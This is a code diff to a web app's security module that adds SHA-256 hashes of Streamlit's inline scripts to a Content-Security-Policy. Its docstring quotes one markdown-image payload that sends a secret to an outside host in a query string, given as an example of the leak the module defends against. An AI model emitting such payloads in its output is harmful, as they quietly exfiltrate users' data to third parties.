@@ -4,19 +4,34 @@ An answer, a document or a name may hold ``![x](http://elsewhere/?q=secret)``; S
 once. Text is defused in ``kb_app.ui.markup``; the Content-Security-Policy is the second, independent layer.
 """
 
+import re
+from base64 import b64encode
 from collections.abc import MutableMapping
+from hashlib import sha256
+from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
 
+import streamlit
 from starlette.datastructures import Headers
 from starlette.responses import PlainTextResponse
 from starlette.types import ASGIApp, Message, Receive, Scope, Send
 from streamlit.web.server.starlette.starlette_websocket import is_host_allowed
 
+_INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)
+
+
+def _inline_scripts() -> str:
+    """Return the digests of what Streamlit's own page, as installed, holds between script tags, as policy sources."""
+    page = (Path(streamlit.__file__).parent / "static" / "index.html").read_text(encoding="utf-8")
+    digests = (sha256(script.encode()).digest() for script in _INLINE_SCRIPT.findall(page))
+    return " ".join(f"'sha256-{b64encode(digest).decode()}'" for digest in digests)
+
+
 CONTENT_SECURITY_POLICY = "; ".join(
     (
         "default-src 'self'",
-        "script-src 'self' 'wasm-unsafe-eval'",
+        f"script-src 'self' 'wasm-unsafe-eval' {_inline_scripts()}".rstrip(),
         "style-src 'self' 'unsafe-inline'",
         "img-src 'self' data: blob:",
         "media-src 'self' data: blob:",
